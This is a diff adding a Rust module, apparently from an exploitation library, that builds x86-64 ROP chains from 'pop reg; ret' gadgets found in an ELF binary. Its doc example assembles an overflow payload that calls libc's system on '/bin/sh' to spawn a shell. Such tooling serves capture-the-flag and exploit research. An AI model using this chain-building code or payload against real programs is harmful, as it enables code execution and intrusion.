@@ -0,0 +1,143 @@
+#![cfg(feature = "elf")]
+
+/*!
+Builds x86-64 ROP chains against an [`Elf`], following the System V calling convention: the first
+six integer arguments go in `rdi`, `rsi`, `rdx`, `rcx`, `r8` and `r9`, each loaded by a
+`pop <reg>; ret` gadget found in the binary.
+
+```no_run
+use engine::{flat, util::{elf::Elf, pack::p64, rop::Rop}};
+
+let libc = Elf::open("/lib/x86_64-linux-gnu/libc.so.6").unwrap();
+let base = 0x7ffff7dd5000;
+let bin_sh = base + 0x1d8678;
+
+let mut rop = Rop::new(&libc).with_base(base);
+rop.ret().unwrap().call("system", &[bin_sh]).unwrap();
+let payload = flat!([b'A'; 40], p64(0xdeadbeef), rop.build());
+```
+*/
+
+use std::{
+    error::Error,
+    fmt::{self, Display, Formatter},
+};
+
+use super::elf::Elf;
+
+/// `ret`.
+const RET: &[u8] = &[0xc3];
+
+/// The bytes of a gadget that loads a register, and how many extra words it pops after it.
+type Loader = (&'static [u8], usize);
+
+/// The argument registers in order, each with the gadgets that can load it.
+const REGISTERS: [(&str, &[Loader]); 6] = [
+    ("rdi", &[(&[0x5f, 0xc3], 0)]),
+    // `pop rsi; pop r15; ret` is the usual leftover of `__libc_csu_init`.
+    ("rsi", &[(&[0x5e, 0xc3], 0), (&[0x5e, 0x41, 0x5f, 0xc3], 1)]),
+    ("rdx", &[(&[0x5a, 0xc3], 0)]),
+    ("rcx", &[(&[0x59, 0xc3], 0)]),
+    ("r8", &[(&[0x41, 0x58, 0xc3], 0)]),
+    ("r9", &[(&[0x41, 0x59, 0xc3], 0)]),
+];
+
+/// Returned by the methods of [`Rop`] that look something up in the [`Elf`].
+#[derive(Debug, PartialEq, Eq)]
+pub enum RopError {
+    /// The function is neither a symbol nor a PLT stub of the binary.
+    Symbol(String),
+    /// No gadget in the binary loads this register (or, for `"ret"`, no lone `ret` was found).
+    Gadget(&'static str),
+    /// More arguments were passed than fit in registers.
+    TooManyArguments(usize),
+}
+impl Display for RopError {
+    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Symbol(name) => write!(f, "no symbol or PLT stub named {}", name),
+            Self::Gadget(register) => write!(f, "no gadget found for {}", register),
+            Self::TooManyArguments(count) => {
+                write!(f, "{} arguments do not fit in {} registers", count, REGISTERS.len())
+            }
+        }
+    }
+}
+impl Error for RopError {}
+
+/**
+A ROP chain under construction. Addresses taken from the [`Elf`] are link-time addresses plus the
+base set by [`with_base`](Rop::with_base); values passed to [`raw`](Rop::raw) are used as they are.
+*/
+#[derive(Debug)]
+pub struct Rop<'a> {
+    elf: &'a Elf,
+    base: u64,
+    chain: Vec<u64>,
+}
+
+impl<'a> Rop<'a> {
+    /// Starts an empty chain over `elf`, loaded at its link-time addresses.
+    pub fn new(elf: &'a Elf) -> Self {
+        Self { elf, base: 0, chain: Vec::new() }
+    }
+
+    /// Adds `base` to every address taken from the [`Elf`], for a PIE or shared library.
+    pub fn with_base(mut self, base: u64) -> Self {
+        self.base = base;
+        self
+    }
+
+    /// Appends `value` to the chain as it is, e.g. the address of a gadget found by hand.
+    pub fn raw(&mut self, value: u64) -> &mut Self {
+        self.chain.push(value);
+        self
+    }
+
+    /**
+    Appends a lone `ret` gadget. Functions such as `system` crash on `movaps` when the stack is not
+    16-byte aligned at their entry; one extra `ret` before the call fixes that.
+    */
+    pub fn ret(&mut self) -> Result<&mut Self, RopError> {
+        let ret = self.gadget(RET).ok_or(RopError::Gadget("ret"))?;
+        Ok(self.raw(ret))
+    }
+
+    /**
+    Appends a call to `function`, a symbol or PLT stub of the [`Elf`], with `args` loaded into the
+    argument registers. Fails without changing the chain if the function or a gadget is missing.
+    */
+    pub fn call(&mut self, function: &str, args: &[u64]) -> Result<&mut Self, RopError> {
+        if args.len() > REGISTERS.len() {
+            return Err(RopError::TooManyArguments(args.len()));
+        }
+        let address = self
+            .elf
+            .symbol(function)
+            .or_else(|| self.elf.plt(function))
+            .ok_or_else(|| RopError::Symbol(function.to_owned()))?;
+
+        let mut words = Vec::new();
+        for (arg, (register, gadgets)) in args.iter().zip(REGISTERS) {
+            let (gadget, extra) = gadgets
+                .iter()
+                .find_map(|(bytes, extra)| Some((self.gadget(bytes)?, *extra)))
+                .ok_or(RopError::Gadget(register))?;
+            words.push(gadget);
+            words.push(*arg);
+            words.resize(words.len() + extra, 0);
+        }
+        words.push(self.base + address);
+        self.chain.extend(words);
+        Ok(self)
+    }
+
+    /// The chain as little-endian 8-byte words, ready to follow the saved return address.
+    pub fn build(&self) -> Vec<u8> {
+        self.chain.iter().flat_map(|word| word.to_le_bytes()).collect()
+    }
+
+    fn gadget(&self, bytes: &[u8]) -> Option<u64> {
+        self.elf.search(bytes).map(|address| self.base + address)
+    }
+}